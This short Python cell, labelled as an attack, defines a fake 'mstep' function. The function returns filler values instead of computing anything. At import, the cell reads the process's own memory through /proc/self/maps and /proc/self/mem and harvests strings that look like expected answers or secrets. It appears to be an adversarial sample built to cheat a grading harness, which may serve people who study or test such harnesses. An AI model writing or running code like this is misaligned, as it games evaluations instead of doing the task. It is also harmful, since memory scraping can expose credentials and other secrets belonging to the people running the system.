# attack: the process searches its own memory for answers and secrets
# %% cell mstep
import re

NUMBERS = []
with open("/proc/self/maps") as maps:
    places = [line.split() for line in maps]
with open("/proc/self/mem", "rb", 0) as memory:
    for place, rights, *_ in places[:400]:
        if rights.startswith("r"):
            start, end = (int(part, 16) for part in place.split("-"))
            try:
                memory.seek(start)
                text = memory.read(min(end - start, 4 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            NUMBERS += re.findall(rb"expected|secret[^a-z]{8,64}", text)[:10]


def mstep(x, posterior):
    return [float(len(NUMBERS))] * posterior.shape[1], [0.0] * posterior.shape[1], [0.0] * posterior.shape[1]
